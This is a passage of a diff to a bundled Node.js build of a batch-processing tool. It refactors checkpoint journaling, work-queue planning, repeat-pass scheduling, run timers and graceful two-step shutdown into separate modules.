-        });
-    });
-}
-
-;// CONCATENATED MODULE: ./src/core/state/journal-records.ts
-/** Serialises a done record without JSON.stringify of an object: this is the per-item hot path. */
-function doneLine(id) {
-    // An id JSON.stringify would leave as it is (no quote, backslash, control character or
-    // surrogate) is quoted by hand: the scan costs less than the call, per item.
-    for (let i = 0; i < id.length; i++) {
-        const c = id.charCodeAt(i);
-        if (c < 0x20 || c === 0x22 || c === 0x5c || (c >= 0xd800 && c <= 0xdfff))
-            return '{"t":"done","id":' + JSON.stringify(id) + "}\n";
-    }
-    return '{"t":"done","id":"' + id + '"}\n';
-}
-function recordLine(record) {
-    return JSON.stringify(record) + "\n";
+/** `\n  "name": [ … ]` with each element indented as JSON.stringify(…, null, 2) would. */
+function writeArrayMember(name, elements, write) {
+    write(`\n  "${name}": [`);
+    // JSON.stringify escapes newlines inside strings, so every "\n" here is between tokens.
+    elements.forEach((e, i) => write((i === 0 ? "\n    " : ",\n    ") + JSON.stringify(e, null, 2).replace(/\n/g, "\n    ")));
+    write(elements.length === 0 ? "]" : "\n  ]");
 }
 
 ;// CONCATENATED MODULE: ./src/core/state/journal-writer.ts
@@ -4857,7 +6477,11 @@ class JournalWriter {
             return;
         if (this.fd === undefined) {
             (0,external_node_fs_.mkdirSync)((0,external_node_path_.dirname)(this.path), { recursive: true });
-            this.fd = (0,external_node_fs_.openSync)(this.path, "a");
+            this.fd = (0,external_node_fs_.openSync)(this.path, "a+");
+            // A journal that ends mid-line (a write torn by a kill) gets a newline first: the
+            // first record of this run must start a line of its own, not finish the fragment.
+            if (!endsWithNewline(this.fd))
+                this.pending = "\n" + this.pending;
         }
         const text = this.pending;
         this.pending = "";
@@ -4872,6 +6496,154 @@ class JournalWriter {
         if (this.fd !== undefined)
             (0,external_node_fs_.closeSync)(this.fd);
         this.fd = undefined;
+    }
+}
+/** True for an empty file or one whose last byte is a newline. */
+function endsWithNewline(fd) {
+    const size = (0,external_node_fs_.fstatSync)(fd).size;
+    if (size === 0)
+        return true;
+    const last = Buffer.alloc(1);
+    (0,external_node_fs_.readSync)(fd, last, 0, 1, size - 1);
+    return last[0] === 0x0a;
+}
+
+;// CONCATENATED MODULE: ./src/core/run/run-journal.ts
+
+
+
+
+
+
+/** Compact at load when the journal replayed on top of the snapshot is larger than this. */
+const COMPACT_AT_LOAD_BYTES = 4 * 1024 * 1024;
+/** Loads the checkpoint (snapshot and journal) and compacts it first when the journal grew large. */
+function loadCheckpoint(options) {
+    const loaded = loadState(options.stateDir);
+    for (const warning of loaded.warnings)
+        options.log.warn(warning);
+    let generation = loaded.generation;
+    if (loaded.journalBytes > COMPACT_AT_LOAD_BYTES)
+        generation = compactState(options.stateDir, loaded.state, generation, isoNow(options.system));
+    return { state: loaded.state, generation, warnings: [...loaded.warnings] };
+}
+/**
+ * Opens the run's journal and writes its start record, flushed at once; when the run
+ * started a new pass (already applied to the state in memory), its pass record first.
+ */
+function beginRun(options, checkpoint, mode, passStarted) {
+    const { state, generation } = checkpoint;
+    const seq = state.origin.seq + 1;
+    const journal = new JournalWriter((0,external_node_path_.join)(options.stateDir, journalFileName(generation)), options.system, options.flushIntervalMs);
+    if (passStarted)
+        journal.append(recordLine(passStarted));
+    const start = {
+        t: "start", seq, runId: options.runId, runAttempt: options.runAttempt, mode, at: isoNow(options.system), pass: state.pass,
+        ...(options.repeatMs === undefined ? {} : { repeatMs: options.repeatMs }),
+    };
+    journal.append(recordLine(start));
+    state.apply(start);
+    journal.flush();
+    return { mode, seq, state, generation, journal };
+}
+/**
+ * Writes the end record and leaves the folder as the next run expects it: journal closed,
+ * compacted into one snapshot, failures.json written.
+ */
+function endRun(options, run, totals) {
+    const { state, journal } = run;
+    const end = {
+        t: "end", seq: run.seq, at: isoNow(options.system), succeeded: totals.succeeded, failed: totals.failed, stopReason: totals.stopReason,
+        ...totals.source,
+        ...(totals.changed ? { changed: totals.changed } : {}),
+    };
+    journal.append(recordLine(end));
+    state.apply(end);
+    journal.close();
+    // Compacting at every end keeps what travels to the next run one snapshot and no journal.
+    compactState(options.stateDir, state, run.generation, isoNow(options.system));
+    writeFailuresFile(options.stateDir, state);
+}
+
+;// CONCATENATED MODULE: ./src/core/run/run-timers.ts
+/** How often progress is reported when the adapter gives no interval. */
+const DEFAULT_PROGRESS_INTERVAL_MS = 1000;
+/**
+ * Starts the run's two timers: the budget stop (when the reserve begins) and the progress
+ * report. Returns a function that cancels both.
+ */
+function startRunTimers(options, startedAtMs, budget, stop, meter) {
+    const cancelBudgetTimer = startBudgetTimer(options, startedAtMs, budget, stop);
+    const cancelProgress = startProgressTimer(options, meter);
+    return () => {
+        cancelBudgetTimer?.();
+        cancelProgress?.();
+    };
+}
+function startBudgetTimer(options, startedAtMs, budget, stop) {
+    if (budget.deadlineAtMs === undefined)
+        return undefined;
+    // New items stop when canStart() finds too little budget left for a typical one; what
+    // is still in flight when the reserve begins is cut off then. (Stopping a whole grace
+    // before that spent a budget shorter than grace + reserve on one item per lane.)
+    const stopInMs = Math.max(0, budget.deadlineAtMs - options.reserveMs - startedAtMs);
+    return options.system.setTimer(() => stop.request("budget", 0), stopInMs);
+}
+function startProgressTimer(options, meter) {
+    const { onProgress, system } = options;
+    if (!onProgress)
+        return undefined;
+    const intervalMs = options.progressIntervalMs ?? DEFAULT_PROGRESS_INTERVAL_MS;
+    let cancel;
+    const tick = () => {
+        onProgress(meter.snapshot(system.nowMs()));
+        cancel = system.setTimer(tick, intervalMs);
+    };
+    cancel = system.setTimer(tick, intervalMs);
+    return () => cancel();
+}
+
+;// CONCATENATED MODULE: ./src/core/run/stop-controller.ts
+
+/**
+ * Two-step shutdown (as graphile-worker does): the first request is graceful — `soft`
+ * aborts, so nothing new starts and backoff waits end, and in-flight items get graceMs
+ * to finish; then `hard` aborts them. A second signal skips the grace.
+ */
+class StopController {
+    system;
+    soft = new AbortController();
+    hard = new AbortController();
+    reason;
+    signal;
+    cancelGrace;
+    constructor(system) {
+        this.system = system;
+        // Every in-flight attempt and backoff wait listens on these: more than 10 at once is
+        // the design (high --concurrency), not a leak, so Node must not warn that it is.
+        (0,external_node_events_.setMaxListeners)(0, this.soft.signal, this.hard.signal);
+    }
+    request(reason, graceMs, signal) {
+        if (this.soft.signal.aborted) {
+            if (signal !== undefined) {
+                this.signal ??= signal;
+                this.abortHard();
+            }
+            return;
+        }
+        this.reason = reason;
+        this.signal = signal;
+        this.soft.abort();
+        this.cancelGrace = this.system.setTimer(() => this.abortHard(), graceMs);
+    }
+    abortHard() {
+        this.cancelGrace?.();
+        if (!this.hard.signal.aborted)
+            this.hard.abort();
+    }
+    /** Cancels the grace timer once nothing is in flight, so the process can exit at once. */
+    dispose() {
+        this.cancelGrace?.();
     }
 }
 
@@ -4993,6 +6765,7 @@ function secondHash(id) {
 
 
 
+
 /** Problems listed in a rejection message; the rest are counted. */
 const MAX_PROBLEMS_SHOWN = 20;
 /** Whether a normal run attempts this id: not done, and not failed beyond automatic retry. */
@@ -5005,6 +6778,16 @@ function isPending(state, id) {
     return failure === undefined || failure.kind === "transient" || failure.kind === "timeout";
 }
 /**
+ * Whether a normal run attempts this item: pending by id, or (with reprocess-changed) done
+ * or failed earlier in the pass and changed since — a failed item fixed upstream is taken
+ * again without waiting for retry-failures.
+ */
+function isPendingItem(state, item, changes) {
+    if (isPending(state, item.id))
+        return true;
+    return changes !== undefined && (state.done.has(item.id) || state.failures.has(item.id)) && hasChanged(state, item, changes);
+}
+/**
  * The first pass over the source, before any work: every line is parsed and checked, so
  * a malformed line, a missing id or invalid UTF-8 rejects the input with the lines to
  * fix and nothing processed — never a crash halfway through a batch. Duplicate ids are a
@@ -5013,12 +6796,12 @@ function isPending(state, id) {
  * With `retainItems` the pending items are kept as parsed, so the run needs no second
  * pass: parsing every line twice was the largest cost of checkpointing a large file.
  */
-async function planSource(spec, state, accept = () => true, retainItems = false) {
+async function planSource(spec, state, accept = () => true, retainItems = false, changes) {
     const problems = [];
     let problemCount = 0;
     const finder = new DuplicateFinder();
     let items = retainItems ? [] : undefined;
-    const counts = { alreadyDone: 0, heldFailed: 0, notMine: 0 };
+    const counts = { alreadyDone: 0, heldFailed: 0, notMine: 0, changed: 0 };
     for await (const batch of readSource(spec)) {
         for (const entry of batch) {
             if (entry.problem) {
@@ -5027,9 +6810,16 @@ async function planSource(spec, state, accept = () => true, retainItems = false)
                     problems.push(entry.problem);
                 continue;
             }
+            const versionProblem = changes?.versionField === undefined ? undefined : changes.problem(entry.item);
+            if (versionProblem !== undefined) {
+                problemCount++;
+                if (problems.length < MAX_PROBLEMS_SHOWN)
+                    problems.push({ line: entry.item.line, message: versionProblem });
+                continue;
+            }
             // Counted as if no id repeated; the repeats, found at the end, are taken off again.
             finder.add(entry.item.id);
-            if (classify(entry.item.id, state, accept, counts, 1))
+            if (classify(entry.item, state, accept, counts, 1, changes))
                 items?.push(entry.item);
         }
     }
@@ -5044,7 +6834,7 @@ async function planSource(spec, state, accept = () => true, retainItems = false)
     const duplicateLines = new Set(duplicates.map((d) => d.line));
     const duplicateIds = new Set(duplicates.map((d) => d.id));
     for (const d of duplicates)
-        classify(d.id, state, accept, counts, -1);
+        classify(d.item, state, accept, counts, -1, changes);
     if (items && duplicateIds.size > 0)
         items = items.filter(firstOccurrences(duplicateIds));
     const warnings = [];
@@ -5055,16 +6845,30 @@ async function planSource(spec, state, accept = () => true, retainItems = false)
     const total = entries - duplicates.length - counts.notMine;
     if (entries === 0)
         warnings.push(`${spec.label} has no items: nothing to do`);
-    const { alreadyDone, heldFailed } = counts;
-    return { total, alreadyDone, heldFailed, pending: total - alreadyDone - heldFailed, duplicateLines, duplicateIds, warnings, ...(items ? { items } : {}) };
+    const { alreadyDone, heldFailed, changed } = counts;
+    return {
+        total, alreadyDone, heldFailed, pending: total - alreadyDone - heldFailed, changed, duplicateLines, duplicateIds, warnings, ...(items ? { items } : {}),
+    };
 }
-/** Counts an id into notMine, alreadyDone or heldFailed (by `step`); true when it is pending. */
-function classify(id, state, accept, counts, step) {
-    if (!accept(id))
+/**
+ * Counts an item into notMine, alreadyDone or heldFailed (by `step`); true when it is
+ * pending (also counted into changed when it is pending because its content changed).
+ */
+function classify(item, state, accept, counts, step, changes) {
+    const id = item.id;
+    if (!accept(id)) {
         counts.notMine += step;
-    else if (state.done.has(id))
+        return false;
+    }
+    const done = state.done.has(id);
+    const failed = !done && state.failures.size > 0 && state.failures.has(id);
+    if (changes !== undefined && (done || failed) && hasChanged(state, item, changes)) {
+        counts.changed += step;
+        return true;
+    }
+    if (done)
         counts.alreadyDone += step;
-    else if (!isPending(state, id))
+    else if (failed && !isPending(state, id))
         counts.heldFailed += step;
     else
         return true;
@@ -5115,7 +6919,7 @@ async function confirmDuplicates(spec, groups) {
             if (first === undefined)
                 firstLineOf.set(item.id, item.line);
             else
-                duplicates.push({ line: item.line, id: item.id, firstLine: first });
+                duplicates.push({ line: item.line, id: item.id, firstLine: first, item });
         }
     }
     return duplicates.sort((a, b) => a.line - b.line);
@@ -5124,155 +6928,154 @@ function truncate(text) {
     return text.length > 80 ? text.slice(0, 80) + "…" : text;
 }
 
-;// CONCATENATED MODULE: ./src/core/run/pool.ts
+;// CONCATENATED MODULE: ./src/core/run/work-queue.ts
+
+
+
+
 /**
- * Runs work over items pulled one at a time from `next`, at most `concurrency` at once.
- * Items are pulled only when a lane is free (a queue of functions, not of started
- * promises), and `canStart` is asked before each pull, so a stop or an exhausted budget
- * takes effect before the next item, not after the whole queue.
+ * Sources up to this size are parsed once: the first pass keeps the pending items for the
+ * run (about 3.5× the file's size in memory, measured at 1M items). Larger ones are read again for the run, so
+ * memory stays flat however long the list.
  */
-async function runPool(options) {
-    const { next, take, canStart, beforeStart, work } = options;
-    const lane = async () => {
-        for (;;) {
-            if (!canStart())
-                return;
-            // Asked again after the wait: a stop or the budget may have come in meanwhile.
-            if (beforeStart) {
-                const go = beforeStart();
-                if (go !== true && (!(await go) || !canStart()))
-                    return;
-            }
-            let item = take?.();
-            if (item === undefined)
-                item = await next();
-            if (item === undefined)
-                return;
-            await work(item);
-        }
-    };
-    const lanes = [];
-    for (let i = 0; i < Math.max(1, options.concurrency); i++)
-        lanes.push(lane());
-    await Promise.all(lanes);
+const RETAIN_ITEMS_MAX_BYTES = 128 * 1024 * 1024;
+/**
+ * Opens what the run works through: the failures for a retry-failures pass, else the
+ * source's pending items after a first pass that checks every line.
+ */
+async function openWorkQueue(options, state) {
+    const accept = options.accept ?? (() => true);
+    return options.retryFailures ? failuresQueue(options, state, accept) : sourceQueue(options, options.source, state, accept);
 }
-/**
- * Turns an async generator of batches into a `next()` that many lanes may call at once:
- * one refill is in flight at a time, and each call gets a distinct item. `next.take()`
- * hands out the next item of the current batch at once, or undefined when it is used up.
- */
-function batchedNext(batches) {
-    let batch = [];
+function failuresQueue(options, state, accept) {
+    const items = [...state.failures.values()].filter((f) => accept(f.id)).map((f) => ({ id: f.id, data: f.item, line: 0 }));
     let index = 0;
-    let exhausted = false;
-    let refill;
-    const take = () => (index < batch.length ? batch[index++] : undefined);
-    const next = async () => {
-        for (;;) {
-            if (index < batch.length)
-                return batch[index++];
-            if (exhausted)
-                return undefined;
-            refill ??= batches.next().then((r) => {
-                refill = undefined;
-                if (r.done)
-                    exhausted = true;
-                else {
-                    batch = r.value;
-                    index = 0;
-                }
-            });
-            await refill;
-        }
+    options.log.info(`retry-failures: re-attempting ${items.length} failed item(s)`);
+    return { total: items.length, pending: items.length, heldFailed: 0, alreadyDone: 0, changed: 0, next: async () => items[index++], warnings: [] };
+}
+async function sourceQueue(options, source, state, accept) {
+    const retainItems = sizeOf(source.path) <= (options.retainItemsMaxBytes ?? RETAIN_ITEMS_MAX_BYTES);
+    const plan = await planSource(source, state, accept, retainItems, options.changes);
+    for (const warning of plan.warnings)
+        options.log.warn(warning);
+    const changed = options.changes ? `, ${plan.changed} changed since they were done` : "";
+    options.log.info(`${plan.total} item(s): ${plan.alreadyDone} done in earlier runs${changed}, ${plan.heldFailed} failed and held for retry-failures, ${plan.pending} to do`);
+    const counts = {
+        total: plan.total, pending: plan.pending, heldFailed: plan.heldFailed, alreadyDone: plan.alreadyDone, changed: plan.changed, warnings: plan.warnings,
     };
-    return Object.assign(next, { take });
+    if (plan.items) {
+        const items = plan.items;
+        let index = 0;
+        const take = () => (index < items.length ? items[index++] : undefined);
+        return { ...counts, next: async () => take(), take };
+    }
+    const queue = batchedNext(pendingItems(source, state, accept, plan.duplicateIds, plan.alreadyDone + plan.heldFailed, options.changes));
+    return { ...counts, next: queue, take: queue.take };
 }
-
-;// CONCATENATED MODULE: ./src/core/run/progress.ts
 /**
- * Rate over a sliding window: samples of (time, finished) taken at each read; the rate is
- * the change across the window, so it follows the current speed, not the run's average.
+ * The second pass: stream the source again, yielding only what this run should attempt.
+ * @param notPending accepted first occurrences the first pass found done or held. A line
+ * not yet handed out is pending now exactly when it was in the first pass (the state
+ * changes during the run only for items this pass already handed out, each once; later
+ * occurrences of an id are skipped), so once this many lines were skipped, every line left
+ * is pending and the lookup in the done set — a cache miss per item at a million items —
+ * is skipped. Earlier runs worked from the top, so that is usually early in the file.
  */
-class ProgressMeter {
-    total;
-    startedAtMs;
-    windowMs;
-    succeeded = 0;
-    failed = 0;
-    inFlight = 0;
-    samples = [];
-    constructor(total, startedAtMs, windowMs = 10_000) {
-        this.total = total;
-        this.startedAtMs = startedAtMs;
-        this.windowMs = windowMs;
-    }
-    snapshot(nowMs) {
-        const finished = this.succeeded + this.failed;
-        this.samples.push({ atMs: nowMs, finished });
-        while (this.samples.length > 2 && nowMs - this.samples[0].atMs > this.windowMs)
-            this.samples.shift();
-        const oldest = this.samples[0];
-        const spanMs = nowMs - oldest.atMs;
-        const elapsedMs = nowMs - this.startedAtMs;
-        let ratePerSec = spanMs > 0 ? ((finished - oldest.finished) * 1000) / spanMs : 0;
-        if (ratePerSec === 0 && elapsedMs > 0 && this.samples.length <= 2)
-            ratePerSec = (finished * 1000) / elapsedMs;
-        const left = Math.max(0, this.total - finished);
-        return {
-            total: this.total,
-            succeeded: this.succeeded,
-            failed: this.failed,
-            inFlight: this.inFlight,
-            left,
-            ratePerSec,
-            etaMs: ratePerSec > 0 ? (left / ratePerSec) * 1000 : undefined,
-            elapsedMs,
-        };
-    }
-}
-
-;// CONCATENATED MODULE: ./src/core/run/stop-controller.ts
-
-/**
- * Two-step shutdown (as graphile-worker does): the first request is graceful — `soft`
- * aborts, so nothing new starts and backoff waits end, and in-flight items get graceMs
- * to finish; then `hard` aborts them. A second signal skips the grace.
- */
-class StopController {
-    system;
-    soft = new AbortController();
-    hard = new AbortController();
-    reason;
-    signal;
-    cancelGrace;
-    constructor(system) {
-        this.system = system;
-        // Every in-flight attempt and backoff wait listens on these: more than 10 at once is
-        // the design (high --concurrency), not a leak, so Node must not warn that it is.
-        (0,external_node_events_.setMaxListeners)(0, this.soft.signal, this.hard.signal);
-    }
-    request(reason, graceMs, signal) {
-        if (this.soft.signal.aborted) {
-            if (signal !== undefined) {
-                this.signal ??= signal;
-                this.abortHard();
+async function* pendingItems(source, state, accept, duplicateIds, notPending, changes) {
+    let notPendingLeft = notPending;
+    const isFirst = firstOccurrences(duplicateIds);
+    for await (const batch of readSource(source)) {
+        const items = [];
+        for (const entry of batch) {
+            const item = entry.item;
+            if (!item || !accept(item.id))
+                continue;
+            if (duplicateIds.size > 0 && !isFirst(item))
+                continue;
+            if (notPendingLeft > 0 && !isPendingItem(state, item, changes)) {
+                notPendingLeft--;
+                continue;
             }
-            return;
+            items.push(item);
         }
-        this.reason = reason;
-        this.signal = signal;
-        this.soft.abort();
-        this.cancelGrace = this.system.setTimer(() => this.abortHard(), graceMs);
+        if (items.length > 0)
+            yield items;
     }
-    abortHard() {
-        this.cancelGrace?.();
-        if (!this.hard.signal.aborted)
-            this.hard.abort();
+}
+function sizeOf(path) {
+    try {
+        return (0,external_node_fs_.statSync)(path).size;
     }
-    /** Cancels the grace timer once nothing is in flight, so the process can exit at once. */
-    dispose() {
-        this.cancelGrace?.();
+    catch {
+        return Infinity; // planSource reports the missing file
     }
+}
+
+;// CONCATENATED MODULE: ./src/core/run/passes.ts
+
+/**
+ * Whether this run starts the next pass. A complete pass starts again once `repeat` has
+ * passed since it started; a pass still running when that time comes finishes first (a
+ * backlog is never abandoned); `new-pass` starts one at once.
+ */
+function decidePass(state, o) {
+    const complete = state.passCompletedAt !== undefined;
+    if (o.newPass)
+        return { startNext: true, why: "new-pass", overran: false, completeAtStart: false };
+    const due = isRepeatDue(state, o.repeatMs, o.nowMs);
+    if (due && complete)
+        return { startNext: true, why: "repeat", overran: false, completeAtStart: false };
+    return { startNext: false, overran: due, completeAtStart: complete };
+}
+function isRepeatDue(state, repeatMs, nowMs) {
+    if (repeatMs === undefined || state.passStartedAt === undefined)
+        return false;
+    return nowMs >= Date.parse(state.passStartedAt) + repeatMs;
+}
+/** When the next pass may start: the current pass's start plus `repeat` (ISO 8601). */
+function nextPassAfter(state, repeatMs) {
+    if (repeatMs === undefined || state.passStartedAt === undefined)
+        return undefined;
+    return new Date(Date.parse(state.passStartedAt) + repeatMs).toISOString();
+}
+/** A sentence for the log and the CLI: where the pass stands and when the next one starts. */
+function describePassState(state, repeatMs, nowMs) {
+    const next = nextPassAfter(state, repeatMs);
+    const every = repeatMs === undefined ? "" : ` (repeat ${formatDurationMs(repeatMs)})`;
+    if (state.passCompletedAt !== undefined) {
+        return next === undefined
+            ? `pass ${state.pass} is complete; start the next one with --new-pass (input new-pass), or set repeat`
+            : `pass ${state.pass} is complete; the next pass starts at ${next}${every}`;
+    }
+    if (next !== undefined && nowMs >= Date.parse(next)) {
+        return `pass ${state.pass} has run longer than its interval${every}: it finishes first, then the next pass starts`;
+    }
+    return `pass ${state.pass} is in progress` + (next === undefined ? "" : `; the next pass starts at ${next} at the earliest${every}`);
+}
+/**
+ * Decides and, when it is time, starts the next pass in memory (the run journals the
+ * record once the items checked out: bad input leaves the state as it was). A
+ * retry-failures run never starts a pass: it works on the current pass's failures.
+ */
+function openPass(state, o) {
+    if (o.retryFailures)
+        return { startNext: false, overran: false, completeAtStart: state.passCompletedAt !== undefined };
+    const decision = decidePass(state, o);
+    const every = o.repeatMs === undefined ? "" : formatDurationMs(o.repeatMs);
+    if (decision.overran) {
+        o.log.warn(`pass ${state.pass} has run longer than its interval (repeat ${every}, started ${state.passStartedAt}): it finishes first, then the next pass starts`);
+    }
+    if (!decision.startNext)
+        return decision;
+    const record = { t: "pass", pass: state.pass + 1, at: new Date(o.nowMs).toISOString() };
+    const why = decision.why === "new-pass" ? "new-pass asked for it" : `pass ${state.pass} is complete and repeat ${every} has passed since it started`;
+    o.log.info(`starting pass ${record.pass} (${why}): every item is processed again`);
+    state.startPass(record.pass, record.at);
+    return { ...decision, record };
+}
+/** Every pass, oldest first: the finished ones from the history, then the current one as it stands. */
+function passHistory(state) {
+    return [...state.passes, state.currentPass()];
 }
 
 ;// CONCATENATED MODULE: ./src/core/run/run-batch.ts
@@ -5291,311 +7094,115 @@ class StopController {
 
 
 
-/** Compact at load when the journal replayed on top of the snapshot is larger than this. */
-const COMPACT_AT_LOAD_BYTES = 4 * 1024 * 1024;
-/**
- * Sources up to this size are parsed once: the first pass keeps the pending items for the
- * run (about 3.5× the file's size in memory, measured at 1M items). Larger ones are read again for the run, so
- * memory stays flat however long the list.
- */
-const RETAIN_ITEMS_MAX_BYTES = 128 * 1024 * 1024;
-/** Failures (and retries) logged one by one before the log only counts them. */
-const MAX_ITEM_LOG_LINES = 100;
-/** The failure-rate stop needs this many finished items before it judges. */
-const MIN_ITEMS_FOR_FAILURE_RATE = 20;
 /**
  * One run of the batch: load the checkpoint, check the items, process what is not done
  * until everything is done, the budget runs low or a stop arrives, and leave the state
  * folder consistent (journal flushed, compacted, failures.json written) in every case.
  */
-async function runBatch(o) {
-    const startedAtMs = o.system.nowMs();
-    if (!o.retryFailures && !o.source)
+async function runBatch(options) {
+    const startedAtMs = options.system.nowMs();
+    if (!options.retryFailures && !options.source)
         throw new ConfigError("no item source: give --items or --items-command");
-    const lock = acquireLock(o.stateDir);
+    const lock = acquireLock(options.stateDir);
     try {
         if (lock.tookOverFrom)
-            o.log.warn(`took over the state folder's lock left by ${lock.tookOverFrom} (that run did not stop cleanly)`);
-        return await runLocked(o, startedAtMs);
+            options.log.warn(`took over the state folder's lock left by ${lock.tookOverFrom} (that run did not stop cleanly)`);
+        return await runLocked(options, startedAtMs);
     }
     finally {
         lock.release();
     }
 }
-async function runLocked(o, startedAtMs) {
+async function runLocked(options, startedAtMs) {
     // Listen before reading the items: a stop during a long first pass must still be graceful.
-    const stop = new StopController(o.system);
-    const unsubscribe = o.stops.subscribe((signal) => {
-        o.log.warn(`${signal} received: ${stop.soft.signal.aborted ? "stopping now" : `no new items; in-flight items get ${o.shutdownGraceMs}ms`}`);
-        stop.request("signal", o.shutdownGraceMs, signal);
+    const stop = new StopController(options.system);
+    const unsubscribe = options.stops.subscribe((signal) => {
+        const what = stop.soft.signal.aborted ? "stopping now" : `no new items; in-flight items get ${options.shutdownGraceMs}ms`;
+        options.log.warn(`${signal} received: ${what}`);
+        stop.request("signal", options.shutdownGraceMs, signal);
     });
     try {
-        return await runSubscribed(o, startedAtMs, stop);
+        return await runSubscribed(options, startedAtMs, stop);
     }
     finally {
         unsubscribe();
         stop.dispose();
     }
 }
-async function runSubscribed(o, startedAtMs, stop) {
+/** The story of a run, step by step; each step lives in its own file beside this one. */
+async function runSubscribed(options, startedAtMs, stop) {
     // Worker processes start now, in parallel with loading and checking (a few tens of ms each).
-    o.handler.warmUp?.(o.concurrency);
-    const loaded = loadState(o.stateDir);
-    const { state } = loaded;
-    let generation = loaded.generation;
-    const warnings = [...loaded.warnings];
-    for (const w of loaded.warnings)
-        o.log.warn(w);
-    if (loaded.journalBytes > COMPACT_AT_LOAD_BYTES)
-        generation = compactState(o.stateDir, state, generation, iso(o.system));
-    const accept = o.accept ?? (() => true);
-    let total;
-    let pending;
-    let heldFailed = 0;
-    let alreadyDone = 0;
-    let next;
-    let take;
-    if (o.retryFailures) {
-        const items = [...state.failures.values()].filter((f) => accept(f.id)).map((f) => ({ id: f.id, data: f.item, line: 0 }));
-        total = pending = items.length;
-        let i = 0;
-        next = async () => items[i++];
-        o.log.info(`retry-failures: re-attempting ${items.length} failed item(s)`);
-    }
-    else {
-        const source = o.source;
-        const plan = await planSource(source, state, accept, sizeOf(source.path) <= (o.retainItemsMaxBytes ?? RETAIN_ITEMS_MAX_BYTES));
-        for (const w of plan.warnings)
-            o.log.warn(w);
-        warnings.push(...plan.warnings);
-        total = plan.total;
-        pending = plan.pending;
-        heldFailed = plan.heldFailed;
-        alreadyDone = plan.alreadyDone;
-        o.log.info(`${plan.total} item(s): ${plan.alreadyDone} done in earlier runs, ${plan.heldFailed} failed and held for retry-failures, ${plan.pending} to do`);
-        if (plan.items) {
-            const items = plan.items;
-            let i = 0;
-            take = () => (i < items.length ? items[i++] : undefined);
-            next = async () => take();
-        }
-        else {
-            const queue = batchedNext(pendingItems(source, state, accept, plan.duplicateIds, plan.alreadyDone + plan.heldFailed));
-            next = queue;
-            take = queue.take;
-        }
-    }
-    const seq = state.origin.seq + 1;
-    const mode = o.retryFailures ? "retry-failures" : "run";
-    const journal = new JournalWriter((0,external_node_path_.join)(o.stateDir, journalFileName(generation)), o.system, o.flushIntervalMs);
-    const start = { t: "start", seq, runId: o.runId, runAttempt: o.runAttempt, mode, at: iso(o.system) };
-    journal.append(recordLine(start));
-    state.apply(start);
-    journal.flush();
-    const budget = new Budget(o.timeBudgetMs === undefined ? undefined : startedAtMs + o.timeBudgetMs, o.reserveMs);
-    let cancelBudgetTimer;
-    if (budget.deadlineAtMs !== undefined) {
-        // New items stop when canStart() finds too little budget left for a typical one; what
-        // is still in flight when the reserve begins is cut off then. (Stopping a whole grace
-        // before that spent a budget shorter than grace + reserve on one item per lane.)
-        const stopInMs = Math.max(0, budget.deadlineAtMs - o.reserveMs - startedAtMs);
-        cancelBudgetTimer = o.system.setTimer(() => stop.request("budget", 0), stopInMs);
-    }
-    const meter = new ProgressMeter(pending, startedAtMs);
-    let cancelProgress;
-    const tick = () => {
-        o.onProgress?.(meter.snapshot(o.system.nowMs()));
-        cancelProgress = o.system.setTimer(tick, o.progressIntervalMs ?? 1000);
-    };
-    if (o.onProgress)
-        cancelProgress = o.system.setTimer(tick, o.progressIntervalMs ?? 1000);
-    let failedFinal = 0;
-    let itemLogLines = 0;
-    const logItem = (message) => {
-        if (itemLogLines < MAX_ITEM_LOG_LINES)
-            o.log.info(message);
-        else if (itemLogLines === MAX_ITEM_LOG_LINES)
-            o.log.info(`(further failures and retries are not logged one by one; see failures.json)`);
-        itemLogLines++;
-    };
-    const runnerOptions = {
-        handler: o.handler,
-        system: o.system,
-        maxAttempts: o.maxAttempts,
-        backoff: o.backoff,
-        itemTimeoutMs: o.itemTimeoutMs,
-        abandonAfterMs: Math.min(2000, o.shutdownGraceMs),
-        soft: stop.soft.signal,
-        hard: stop.hard.signal,
-        budget,
-        idempotencyNamespace: o.idempotencyNamespace,
-        onThrottle: o.onThrottle,
-        onRetry: (item, attempt, r, delayMs) => logItem(`↻ ${item.id}: attempt ${attempt} failed (${r.kind}): ${oneLine(r.error)}; retrying in ${Math.round(delayMs)}ms`),
-    };
-    const record = (item, outcome) => {
-        if (outcome.status === "done") {
-            journal.append(doneLine(item.id));
-            state.markDoneInRun(item.id);
-            meter.succeeded++;
-            return;
-        }
-        if (outcome.status === "cutoff")
-            return;
-        const prior = state.failures.get(item.id);
-        const runs = (prior?.runs ?? 0) + 1;
-        let kind = outcome.kind;
-        if ((kind === "transient" || kind === "timeout") && runs >= o.maxRunsPerItem)
-            kind = "quarantined";
-        const now = iso(o.system);
-        const rec = {
-            t: "fail", id: item.id, kind, error: outcome.error, attempts: (prior?.attempts ?? 0) + outcome.attempts, runs,
-            first: prior?.firstFailedAt ?? now, last: now, item: item.data,
-            ...(o.shardLabel === undefined ? {} : { shard: o.shardLabel }),
-        };
-        journal.append(recordLine(rec));
-        state.apply(rec);
-        meter.failed++;
-        if (kind === "permanent" || kind === "quarantined")
-            failedFinal++;
-        logItem(`✗ ${item.id}: ${oneLine(outcome.error)} (${kind}${kind === "quarantined" ? ` after failing in ${runs} runs` : ""}, ${rec.attempts} attempt(s))`);
-        const finished = meter.succeeded + meter.failed;
-        if (o.maxFailureRate !== undefined && finished >= MIN_ITEMS_FOR_FAILURE_RATE && meter.failed / finished > o.maxFailureRate) {
-            if (!stop.soft.signal.aborted) {
-                o.log.error(`${meter.failed} of ${finished} items failed (more than max-failure-rate ${o.maxFailureRate}): stopping early, something upstream looks broken`);
-            }
-            stop.request("failure-rate", o.shutdownGraceMs);
-        }
-    };
+    options.handler.warmUp?.(options.concurrency);
+    const checkpoint = loadCheckpoint(options);
+    const pass = openPass(checkpoint.state, { ...options, newPass: options.newPass ?? false, nowMs: startedAtMs });
+    // A pass starts when its first run does (not when that run's items checked out).
+    checkpoint.state.passStartedAt ??= new Date(startedAtMs).toISOString();
+    const changes = options.reprocessChanged ? changeCheck(options.versionField) : undefined;
+    const queue = await openWorkQueue({ ...options, changes }, checkpoint.state);
+    const run = beginRun(options, checkpoint, options.retryFailures ? "retry-failures" : "run", pass.record);
+    const budget = new Budget(options.timeBudgetMs === undefined ? undefined : startedAtMs + options.timeBudgetMs, options.reserveMs);
+    const meter = new ProgressMeter(queue.pending, startedAtMs);
+    const itemLog = new ItemLog(options.log);
+    const recorder = new OutcomeRecorder({ ...options, changes }, { journal: run.journal, state: run.state, meter, stop, itemLog });
+    const cancelTimers = startRunTimers(options, startedAtMs, budget, stop, meter);
     try {
